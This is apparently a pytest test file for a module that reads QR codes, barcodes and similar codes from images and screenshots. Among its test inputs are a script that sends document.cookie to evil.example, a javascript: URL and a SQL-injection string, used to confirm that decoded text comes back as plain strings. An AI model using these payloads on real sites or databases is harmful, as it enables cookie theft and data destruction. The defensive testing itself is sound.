import random

import numpy as np
import pytest
from PIL import Image

from clearhall.engine import pictures
from clearhall.engine.pictures import CodeKind, NotAvailable, Picture, codes
from tests.engine.pictures.drawing import as_picture, chat, code, compressed, photo

pytest.importorskip("zxingcpp", reason="the library that reads codes is not installed")
SCRIPT = "<script>fetch('https://evil.example/?c='+document.cookie)</script>"


@pytest.mark.parametrize(
    "text",
    [
        "https://pay.example/now?id=1",
        SCRIPT,
        "javascript:alert(1)",
        "加微信领红包 88元",
        "naïve café",
        "'; DROP TABLE cases;--",
        "x" * 900,
    ],
)
def test_what_stands_in_a_qr_code_is_returned_as_text(text):
    found = pictures.read_codes(as_picture(code(text)))
    assert [(one.kind, one.text) for one in found] == [(CodeKind.QR, text)]
    assert type(found[0].text) is str


@pytest.mark.parametrize(
    ("kind", "named"),
    [("EAN13", CodeKind.BARCODE), ("Code128", CodeKind.BARCODE), ("ITF", CodeKind.BARCODE), ("DataMatrix", CodeKind.DATA_MATRIX),
     ("PDF417", CodeKind.PDF417), ("Aztec", CodeKind.AZTEC)],
)  # fmt: skip
def test_other_codes_are_named(kind, named):
    text = "4006381333931" if kind != "ITF" else "12345670"
    found = pictures.read_codes(as_picture(code(text, kind)))
    assert [(one.kind, one.text) for one in found] == [(named, text)]


def test_a_code_in_a_screenshot_is_read_turned_compressed_and_small():
    screen = chat(3)
    screen.paste(code("https://a.example/q", scale=8), (200, 900))
    for image in (screen, compressed(screen, 30), screen.rotate(5), screen.transpose(Image.Transpose.ROTATE_90)):
        assert [one.text for one in pictures.read_codes(as_picture(image))] == ["https://a.example/q"]
    tiny = code("https://a.example/q", scale=1, edge=6)
    assert pictures.read_codes(as_picture(tiny))[0].text == "https://a.example/q"


def test_several_codes_come_from_top_to_bottom_with_their_place():
    image = Image.new("RGB", (900, 1200), "white")
    for i, text in enumerate(["first", "second", "third"]):
        image.paste(code(text), (50 + 200 * i, 50 + 350 * i))
    found = pictures.read_codes(as_picture(image))
    assert [one.text for one in found] == ["first", "second", "third"]
    left, top = found[1].corners[0]
    assert (abs(left - 306) < 8, abs(top - 456) < 8) == (True, True)


def test_control_characters_are_left_out():
    assert pictures.read_codes(as_picture(code("a\x00b\x1b[31mc\nd")))[0].text == "ab[31mc\nd"


def test_pictures_without_a_code_have_none():
    chance = np.random.default_rng(random.Random(1).randint(0, 9))
    for picture in (
        as_picture(photo(5)),
        Picture(np.zeros((1, 1, 3), np.uint8)),
        Picture(np.zeros((1, 4000, 3), np.uint8)),
        Picture(chance.integers(0, 256, (300, 300, 3), dtype=np.uint8)),
    ):
        assert pictures.read_codes(picture) == ()


def test_without_the_library_the_answer_is_not_available(monkeypatch):
    monkeypatch.setattr(codes, "_library", lambda: None)
    assert not pictures.can_read_codes()
    with pytest.raises(NotAvailable, match="not available: reading of codes") as refused:
        pictures.read_codes(as_picture(Image.new("RGB", (50, 50))))
    assert refused.value.code == "not_available"
